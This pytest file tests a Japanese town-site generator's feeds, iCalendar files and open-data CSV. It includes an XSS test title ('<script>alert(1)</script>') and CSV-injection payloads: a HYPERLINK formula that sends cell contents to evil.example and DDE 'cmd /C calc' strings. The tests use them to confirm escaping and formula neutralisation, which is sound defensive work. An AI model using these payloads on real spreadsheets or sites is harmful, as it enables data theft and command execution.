"""Feeds, calendars and open data of a small real site, parsed back with real parsers."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from datetime import date, datetime, timedelta, timezone
from html.parser import HTMLParser

import feedparser
import icalendar
import pytest
from browser import chromium, serve
from conftest import ROOT, mkdocs_build, site_text, write_project

pytestmark = pytest.mark.slow  # a real build, and Chromium for the search results

NOW = "2026-06-01 12:00"
TRICKY = "\"A & B\" <script>alert(1)</script> 'q'"
FILES = {
    "index.md": "---\ntitle: ホーム\n---\nようこそ。\n",
    "news/2026/tricky.md": f"""
        ---
        title: '{TRICKY.replace("'", "''")}'
        date: 2026-05-01 09:30
        categories: [kurashi]
        summary: 'Fee < 500 & "free" for kids'
        ---
        本文です。[ホーム](../../index.md)
        """,
    "news/2026/plain.md": """
        ---
        title: 春のお知らせ
        date: 令和8年4月1日 10時
        categories: [kanko]
        ---
        桜が咲きました。
        """,
    "events/2026/festival.md": f"""
        ---
        title: '{TRICKY.replace("'", "''")}'
        date: 2026-05-01
        categories: [kanko]
        start: 2026-07-04 10:00
        end: 15:00
        place: 町民広場 & 公民館
        fee: 500円
        capacity: 30人
        contact: 生涯学習課 0274-74-0000
        target: 小学生以上
        apply: 申込フォーム https://forms.example/matsuri から
        ---
        夏祭りです。
        """,
    "events/2026/exhibition.md": """
        ---
        title: 作品展
        date: 2026-05-10
        categories: [kurashi]
        start: 2026-07-10
        end: 2026-07-12
        place: 文化会館
        fee: 無料
        ---
        三日間の作品展です。
        """,
    "events/2026/classes.md": """
        ---
        title: 料理教室
        date: 2026-05-10
        categories: [kurashi]
        dates:
          - start: 2026-06-20 10:00
            end: 12:00
          - start: 2026-07-18 10:00
            end: 12:00
        place: 公民館
        ---
        全二回です。
        """,
    "alerts/ice.md": """
        ---
        title: 路面凍結に注意
        date: 2026-05-30 07:00
        level: warning
        ---
        朝は路面が凍ります。
        """,
}


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    project = write_project(tmp_path_factory.mktemp("outputs"), FILES)
    result = mkdocs_build(project, now=NOW)
    assert result.returncode == 0, result.output
    return project / "site"


def parse_feed(site, name):
    feed = feedparser.parse((site / name).read_bytes())
    assert not feed.bozo, feed.bozo_exception
    return feed


@pytest.mark.parametrize("name", ["feeds/news.xml", "feeds/news.atom"])
def test_news_feed_entries_dates_and_guids(site, name):
    feed = parse_feed(site, name)
    assert [e.title for e in feed.entries] == [TRICKY, "春のお知らせ"]
    assert feed.entries[0].link == "https://town.example/news/2026/tricky/"
    assert feed.entries[0].id == "https://town.example/news/2026/tricky/"
    assert feed.entries[1].published_parsed[:5] == (2026, 4, 1, 1, 0)  # 10:00 JST is 01:00 UTC
    raw = (site / name).read_text(encoding="utf-8")
    assert "+0900" in raw or "+09:00" in raw


def test_feed_links_in_content_are_absolute(site):
    feed = parse_feed(site, "feeds/news.atom")
    html = feed.entries[0].content[0].value
    assert 'href="https://town.example/"' in html


def test_category_and_event_and_alert_feeds(site):
    assert [e.title for e in parse_feed(site, "feeds/news-kanko.xml").entries] == ["春のお知らせ"]
    events = parse_feed(site, "feeds/events.atom").entries
    assert {e.title for e in events} == {TRICKY, "作品展", "料理教室"}
    festival = next(e for e in events if e.title == TRICKY)
    assert "2026年7月4日（土） 10:00〜15:00" in festival.summary
    assert [e.title for e in parse_feed(site, "feeds/alerts.xml").entries] == ["路面凍結に注意"]


def test_every_page_announces_the_feeds(site):
    for page in (
        "index.html",
        "news/index.html",
        "events/festival/index.html".replace("festival", "2026/festival"),
    ):
        html = (site / page).read_text(encoding="utf-8")
        assert re.search(
            r'<link rel="alternate feed" type="application/rss\+xml" title="お知らせ（RSS）" href="[./]*feeds/news.xml">',
            html,
        )
        assert 'type="application/atom+xml"' in html


def test_a_category_page_announces_its_own_feeds_first(site):
    html = (site / "news/category/kanko/index.html").read_text(encoding="utf-8")
    links = re.findall(r'<link rel="alternate feed" type="([^"]+)" title="([^"]+)" href="([^"]+)">', html)
    assert [(kind, href.lstrip("./")) for kind, _, href in links[:2]] == [
        ("application/rss+xml", "feeds/news-kanko.xml"),
        ("application/atom+xml", "feeds/news-kanko.atom"),
    ]
    assert "観光" in links[0][1]
    assert any(href.endswith("feeds/news.xml") for _, _, href in links[2:])  # the site's too


def test_icalendar_parses_back_with_tokyo_times_and_stable_uids(site):
    calendar = icalendar.Calendar.from_ical((site / "calendar/events.ics").read_bytes())
    events = {(e.get("summary"), e.decoded("dtstart")) for e in calendar.walk("VEVENT")}
    tokyo = timezone(timedelta(hours=9))
    starts = {summary: start for summary, start in events}
    assert starts[TRICKY] == datetime(2026, 7, 4, 10, 0, tzinfo=tokyo)
    assert starts["作品展"] == date(2026, 7, 10)
    assert sorted(s for name, s in events if name == "料理教室") == [
        datetime(2026, 6, 20, 10, 0, tzinfo=tokyo),
        datetime(2026, 7, 18, 10, 0, tzinfo=tokyo),
    ]
    exhibition = next(e for e in calendar.walk("VEVENT") if e.get("summary") == "作品展")
    assert exhibition.decoded("dtend") == date(2026, 7, 13)  # all-day DTEND is exclusive
    uids = [str(e.get("uid")) for e in calendar.walk("VEVENT")]
    assert len(set(uids)) == len(uids) == 4
    assert "events-2026-classes-2@town.example" in uids
    assert [str(tz.get("tzid")) for tz in calendar.walk("VTIMEZONE")] == ["Asia/Tokyo"]
    raw = (site / "calendar/events.ics").read_text()
    assert "DTSTART;TZID=Asia/Tokyo:20260704T100000" in raw


def test_ics_per_category(site):
    calendar = icalendar.Calendar.from_ical((site / "calendar/kanko.ics").read_bytes())
    assert [str(e.get("summary")) for e in calendar.walk("VEVENT")] == [TRICKY]


def test_open_data_csv(site):
    raw = (site / "opendata/events.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    reference = (ROOT / "tests/data/opendata/event-list-header.csv").read_text(encoding="utf-8-sig")
    assert list(rows[0]) == next(csv.reader(io.StringIO(reference)))  # 79 columns, as real publishers
    festival = next(r for r in rows if r["イベント名"] == TRICKY)
    assert festival["全国地方公共団体コード"] == "999999"
    assert (festival["開始日"], festival["開始時間"], festival["終了時間"]) == (
        "2026-07-04",
        "10:00",
        "15:00",
    )
    assert (festival["料金(基本)"], festival["定員"], festival["連絡先電話番号"]) == (
        "500",
        "30",
        "0274-74-0000",
    )
    assert festival["場所名称"] == "町民広場 & 公民館"
    assert (festival["言語コード"], festival["掲載開始日"], festival["掲載終了日"]) == (
        "ja",
        "2026-05-01",
        "",
    )
    assert festival["概要"] and festival["イベント種類"] == "観光"
    assert (festival["対象者"], festival["申込URL"]) == ("小学生以上", "https://forms.example/matsuri")
    assert len([r for r in rows if r["イベント名"] == "料理教室"]) == 2
    exhibition = next(r for r in rows if r["イベント名"] == "作品展")
    assert (exhibition["開始日"], exhibition["終了日"], exhibition["料金(基本)"]) == (
        "2026-07-10",
        "2026-07-12",
        "0",
    )


FORMULAS = {
    "イベント名": '=HYPERLINK("https://evil.example/?"&A1,"詳細")',
    "場所名称": "+1+cmd|' /C calc'!A0",
    "料金(詳細)": "-2+3",
    "参加申込方法": "＠SUM(1+1)*cmd|' /C calc'!A0",  # full width: Japanese spreadsheets convert it
    "連絡先名称": "=1+1",
}


def test_open_data_cells_never_start_a_formula(tmp_path):
    """OWASP's CSV-injection advice: a leading ' so that a spreadsheet shows the text instead of
    running it; the rest of each value is kept as written."""
    event = f"""
        ---
        title: '{FORMULAS["イベント名"]}'
        date: 2026-05-01
        categories: [kanko]
        start: 2026-07-04 10:00
        place: "{FORMULAS["場所名称"]}"
        fee: "{FORMULAS["料金(詳細)"]}"
        apply: "{FORMULAS["参加申込方法"]}"
        contact: "{FORMULAS["連絡先名称"]} 0274-74-0000"
        ---
        本文です。
        """
    project = write_project(tmp_path, {"index.md": FILES["index.md"], "events/2026/formula.md": event})
    result = mkdocs_build(project, now=NOW)
    assert result.returncode == 0, result.output
    text = (project / "site/opendata/events.csv").read_bytes().decode("utf-8-sig")
    (row,) = list(csv.DictReader(io.StringIO(text)))
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＠")) for cell in row.values())


class _Head(HTMLParser):
    def __init__(self):
        super().__init__()
        self.meta, self.scripts, self._in_ld, self.title = {}, [], False, ""
        self._in_title = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "meta" and ("property" in attrs or "name" in attrs):
            self.meta[attrs.get("property") or attrs.get("name")] = attrs.get("content")
        self._in_ld = tag == "script" and attrs.get("type") == "application/ld+json"
        self._in_title = tag == "title"

    def handle_data(self, data):
        if self._in_ld:
            self.scripts.append(data)
        if self._in_title:
            self.title += data

    def handle_endtag(self, tag):
        self._in_ld = self._in_title = False


@pytest.mark.parametrize("page", ["news/2026/tricky/index.html", "events/2026/festival/index.html"])
def test_tricky_title_is_escaped_in_html_ogp_and_json_ld(site, page):
    html = (site / page).read_text(encoding="utf-8")
    assert "<script>alert(1)" not in html
    head = _Head()
    head.feed(html)
    assert head.meta["og:title"] == TRICKY
    assert head.meta["twitter:title"] == TRICKY
    assert head.title.startswith(TRICKY)
    data = json.loads(head.scripts[0])
    first = data[0] if isinstance(data, list) else data
    assert TRICKY in (first.get("name"), first.get("headline"))


def test_tricky_title_is_escaped_in_every_markup_output(site):
    """HTML and feeds carry it escaped; .ics, .csv and the search records are data, parsed back."""
    markup = {p: t for p, t in site_text(site).items() if not p.endswith((".ics", ".csv", ".pf_fragment"))}
    assert any(p.endswith(".atom") for p in markup) and any(p.endswith(".html") for p in markup)
    for path, text in markup.items():
        assert "<script>alert(1)" not in text, path


def test_tricky_title_shows_as_text_in_search_results(site):
    with serve(site) as url, chromium() as browser:
        page = browser.new_page()
        page.goto(url + "search/?q=alert")
        page.wait_for_selector("#town-search-results li")
        titles = page.locator("#town-search-results .town-list__title").all_inner_texts()
        assert TRICKY in titles
        assert page.evaluate("document.querySelectorAll('#town-search-results script').length") == 0


def test_event_page_facts_and_json_ld(site):
    html = (site / "events/2026/festival/index.html").read_text(encoding="utf-8")
    for label, value in [
        ("日時", "2026年7月4日（土） 10:00〜15:00"),
        ("場所", "町民広場 &amp; 公民館"),
        ("定員", "30人"),
        ("費用", "500円"),
        ("問合せ", '生涯学習課 <a class="town-tel" href="tel:0274740000">0274-74-0000</a>'),  # callable
    ]:
        assert re.search(rf'<th scope="row">{label}</th><td>{re.escape(value)}</td>', html), label
    head = _Head()
    head.feed(html)
    event = json.loads(head.scripts[0])[0]
    assert event["@type"] == "Event"
    assert event["startDate"] == "2026-07-04T10:00:00+09:00"
    assert event["endDate"] == "2026-07-04T15:00:00+09:00"
    assert event["location"]["name"] == "町民広場 & 公民館"


def test_the_theme_stylesheet_is_minified_in_site_and_the_theme_file_is_left_alone(tmp_path):
    from publisher.outputs.minify import minify_stylesheets

    theme = tmp_path / "town.css"
    theme.write_text("/* why */\n.town-a {\n  color: #123456;\n}\n", encoding="utf-8")
    site_css = tmp_path / "site/assets/stylesheets/town.css"
    site_css.parent.mkdir(parents=True)
    os.link(theme, site_css)  # as a build may leave it: a hard link to the theme's file
    assert minify_stylesheets(tmp_path / "site") == [site_css]
    assert site_css.read_text(encoding="utf-8") == ".town-a{color:#123456}"
    assert theme.read_text(encoding="utf-8").startswith("/* why */")
    assert minify_stylesheets(tmp_path / "elsewhere") == []
